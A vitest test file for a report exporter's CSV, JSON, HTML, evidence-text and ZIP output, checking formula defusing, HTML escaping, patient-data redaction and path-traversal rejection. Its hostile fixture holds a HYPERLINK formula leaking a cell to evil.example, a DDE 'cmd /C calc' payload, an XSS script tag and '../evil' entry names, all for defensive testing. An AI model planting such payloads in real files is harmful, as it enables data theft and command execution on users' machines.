import { spawnSync } from 'node:child_process';
import { randomBytes } from 'node:crypto';
import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, describe, expect, it } from 'vitest';
import { parse } from 'csv-parse/sync';
import type { Incident } from '../../../../app/common/incident.ts';
import { CSV_COLUMNS, csvCell, renderCsv } from '../../../../app/core/report/csvReport.ts';
import { renderEvidenceText } from '../../../../app/core/report/evidencePack.ts';
import { HTML_INCIDENT_ROWS, renderHtmlReport } from '../../../../app/core/report/htmlReport.ts';
import { buildReportData, type ReportData } from '../../../../app/core/report/reportData.ts';
import { renderJson, ReportDataSchema } from '../../../../app/core/report/reportSchema.ts';
import { niceTicks } from '../../../../app/core/report/svgCharts.ts';
import { generateIncidents } from '../../../../testing/report/syntheticIncidents.ts';
import { createZip } from '../../../../app/core/report/zipWriter.ts';

const FROM = Date.UTC(2026, 0, 5);
const TO = Date.UTC(2026, 0, 19);
const dirs: string[] = [];
afterAll(() => dirs.forEach((d) => rmSync(d, { recursive: true, force: true })));

const hostile: Incident = {
  id: 'hostile-1',
  kind: 'crash',
  app: 'emisweb.exe',
  profile: 'emis-web',
  startedAt: '2026-01-06T10:00:00.000Z',
  endedAt: '2026-01-06T10:04:00.000Z',
  sources: ['log'],
  evidence: [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    '2026-01-06T10:00:00.000Z log: <script>alert(1)</script><img src="http://evil.example/x.png"> "quoted", comma',
    '2026-01-06T10:00:00.000Z log: Patient: Jane Example NHS 943-476-5919 DOB: 01/02/1980 LS1 4AP',
  ],
  signature: '+cmd|" /C calc"!A0',
};

function data(extra: Incident[] = [hostile], count = 60): ReportData {
  return buildReportData({ incidents: [...generateIncidents({ count, from: FROM, to: TO, withPatientData: true }), ...extra], workstation: 'RECEPTION-01' }, { from: FROM, to: TO, now: TO, timeZone: 'Europe/London' });
}

/** RFC 4180 through csv-parse, strict: CRLF records only, every row as long as the header. */
const parseCsv = (text: string): string[][] => parse(text, { record_delimiter: '\r\n', relax_quotes: false, relax_column_count: false });

const PATIENT = /943[ -]?476[ -]?5919|Jane Example|01\/02\/1980|LS1 4AP|07700 900123|jane\.example@nhs\.net/;

describe('CSV', () => {
  it('is RFC 4180: BOM, header, one CRLF record per incident, quotes doubled, newlines kept inside quotes', () => {
    const d = data();
    const csv = renderCsv(d);
    expect(csv.startsWith('\uFEFF')).toBe(true);
    const rows = parseCsv(csv.slice(1));
    expect(rows[0]).toEqual([...CSV_COLUMNS]);
    expect(rows).toHaveLength(d.incidents.length + 1);
    for (const row of rows) expect(row).toHaveLength(CSV_COLUMNS.length);
    const hostileRow = rows.find((r) => r[0] === 'hostile-1')!;
    const evidence = hostileRow[CSV_COLUMNS.indexOf('evidence')]!;
    expect(evidence.split('\n')).toHaveLength(3);
    expect(evidence).toContain('"quoted", comma');
  });

  it('defuses spreadsheet formulas in any cell', () => {
    expect(csvCell('=1+1')).toBe("'=1+1");
    expect(csvCell('+cmd')).toBe("'+cmd");
    expect(csvCell('-2')).toBe("'-2");
    expect(csvCell('@SUM(A1)')).toBe("'@SUM(A1)");
    expect(csvCell('\t=x')).toBe("'\t=x");
    expect(csvCell(-2)).toBe('-2'); // numbers we wrote ourselves are numbers
    expect(csvCell('safe')).toBe('safe');
    const rows = parseCsv(renderCsv(data()).slice(1));
    const hostileRow = rows.find((r) => r[0] === 'hostile-1')!;
    expect(hostileRow[CSV_COLUMNS.indexOf('signature')]).toBe('\'+cmd|" /C calc"!A0');
    expect(hostileRow[CSV_COLUMNS.indexOf('evidence')]!.startsWith("'=HYPERLINK")).toBe(true);
    for (const row of rows) for (const cell of row) expect(cell).not.toMatch(/^[=+\-@]/);
  });

  it('reads back with Python csv and carries no patient identifiers', () => {
    const dir = mkdtempSync(join(tmpdir(), 'lifeboat-csv-'));
    dirs.push(dir);
    const file = join(dir, 'incidents.csv');
    const csv = renderCsv(data());
    writeFileSync(file, csv);
    expect(csv).not.toMatch(PATIENT);
    const py = spawnSync('python3', ['-c', `import csv,sys\nrows=list(csv.reader(open(sys.argv[1],encoding='utf-8-sig',newline='')))\nprint(len(rows), len(set(len(r) for r in rows)))`, file], { encoding: 'utf8' });
    if (py.status === 0) expect(py.stdout.trim()).toBe(`${parseCsv(csv.slice(1)).length} 1`);
  });
});

describe('JSON', () => {
  it('validates against the documented schema and round-trips', () => {
    const d = data();
    const text = renderJson(d);
    const parsed = ReportDataSchema.parse(JSON.parse(text));
    expect(parsed.incidents).toHaveLength(d.incidents.length);
    expect(text).not.toMatch(PATIENT);
  });
});

describe('HTML', () => {
  it('is one self-contained file: no script, no external reference, a CSP that forbids loading anything', () => {
    const html = renderHtmlReport(data());
    expect(html).toMatch(/^<!DOCTYPE html>/);
    expect(html).toContain(`<meta http-equiv="Content-Security-Policy" content="default-src 'none'; style-src 'unsafe-inline'; img-src data:">`);
    expect(html).not.toMatch(/<script/i);
    expect(html).not.toMatch(/url\(/i);
    expect(html).not.toMatch(/@import/i);
    // Real tags only (escaped evidence text is not markup): none loads or links to anything.
    const tags = html.match(/<[a-zA-Z][^>]*>/g)!;
    for (const tag of tags) expect(tag).not.toMatch(/\s(?:src|href|action|srcset|xlink:href)=/i);
    // The only URL in any tag is the inline SVGs' XML namespace.
    expect(tags.join(' ').match(/https?:\/\/[^\s"'<]+/g)!.filter((u) => u !== 'http://www.w3.org/2000/svg')).toEqual([]);
    expect((html.match(/<svg /g) ?? []).length).toBe(3);
    expect(html).toContain('@media print');
  });

  it('escapes evidence (hostile markup shows as text) and redacts patient data', () => {
    const html = renderHtmlReport(data());
    expect(html).toContain('&lt;script&gt;alert(1)&lt;/script&gt;&lt;img src=&quot;http://evil.example/x.png&quot;&gt;');
    expect(html).not.toMatch(PATIENT);
    expect(html).toContain('[NHS-NUMBER]');
    expect(html).toMatch(/Replaced with placeholders while building this report: \d+ nhs/);
  });

  it('shows the most recent incidents when there are too many for a page, and says so', () => {
    const many = data([], HTML_INCIDENT_ROWS + 50);
    const html = renderHtmlReport(many);
    expect(html).toContain(`The ${HTML_INCIDENT_ROWS} most recent of ${HTML_INCIDENT_ROWS + 50} incidents`);
    expect((html.match(/<td class="ev">/g) ?? []).length).toBe(HTML_INCIDENT_ROWS);
  });

  it('draws an empty period without errors', () => {
    const empty = buildReportData({ incidents: [] }, { from: FROM, to: TO, now: TO, timeZone: 'UTC' });
    const html = renderHtmlReport(empty);
    expect(html).toContain('None in this period.');
    expect(html).not.toContain('NaN');
    expect(html).not.toContain('Infinity');
  });

  it('picks round axis ticks', () => {
    expect(niceTicks(0)).toEqual([0, 1]);
    expect(niceTicks(7)).toEqual([0, 2, 4, 6, 8]);
    expect(niceTicks(23)).toEqual([0, 5, 10, 15, 20, 25]);
    expect(niceTicks(480)).toEqual([0, 100, 200, 300, 400, 500]);
  });
});

describe('evidence.txt', () => {
  it('lists each incident with its redacted evidence lines', () => {
    const text = renderEvidenceText(data());
    expect(text).toContain('== 2026-01-06T10:00:00.000Z crash emisweb.exe (incident hostile-1)');
    expect(text).not.toMatch(PATIENT);
  });
});

describe('ZIP writer', () => {

  function zipFile(entries: Parameters<typeof createZip>[0]): string {
    const dir = mkdtempSync(join(tmpdir(), 'lifeboat-zip-'));
    dirs.push(dir);
    const file = join(dir, 'pack.zip');
    writeFileSync(file, createZip(entries));
    return file;
  }

  const entries = [
    { name: 'report.html', data: '<p>' + 'repetitive text '.repeat(2000) + '</p>' },
    { name: 'machine.json', data: '{"a":1}' },
    { name: 'naïve café ☕.txt', data: 'UTF-8 name' },
    { name: 'random.bin', data: randomBytes(4096) },
    { name: 'empty.txt', data: '' },
    { name: 'dir/nested.txt', data: 'nested' },
  ];

  it('passes unzip -t and extracts byte for byte', () => {
    const file = zipFile(entries);
    // unzip decodes UTF-8 names only in a UTF-8 locale.
    const env = { ...process.env, LC_ALL: 'C.UTF-8' };
    const test = spawnSync('unzip', ['-t', file], { encoding: 'utf8', env });
    expect(test.status).toBe(0);
    expect(test.stdout).toContain('No errors detected');
    const out = join(file, '..', 'out');
    expect(spawnSync('unzip', ['-q', file, '-d', out], { env }).status).toBe(0);
    for (const e of entries) expect(readFileSync(join(out, e.name)).equals(Buffer.from(e.data))).toBe(true);
  });

  it('reads back with Python zipfile (CRC checked) with UTF-8 names', () => {
    const file = zipFile(entries);
    const py = spawnSync('python3', ['-c', 'import zipfile,sys,json\nz=zipfile.ZipFile(sys.argv[1])\nassert z.testzip() is None\nprint(json.dumps({i.filename:[i.file_size,i.compress_type] for i in z.infolist()}))', file], { encoding: 'utf8' });
    expect(py.status).toBe(0);
    const info = JSON.parse(py.stdout) as Record<string, [number, number]>;
    expect(Object.keys(info)).toEqual(entries.map((e) => e.name));
    expect(info['report.html']![1]).toBe(8); // deflated
    expect(info['random.bin']![1]).toBe(0); // stored: deflate did not help
  });

  it('refuses unsafe or duplicate names', () => {
    expect(() => createZip([{ name: '../evil', data: 'x' }])).toThrow(/not a safe entry name/);
    expect(() => createZip([{ name: '/abs', data: 'x' }])).toThrow(/not a safe entry name/);
    expect(() => createZip([{ name: 'a\\b', data: 'x' }])).toThrow(/not a safe entry name/);
    expect(() => createZip([{ name: 'a', data: 'x' }, { name: 'a', data: 'y' }])).toThrow(/appears twice/);
  });
});
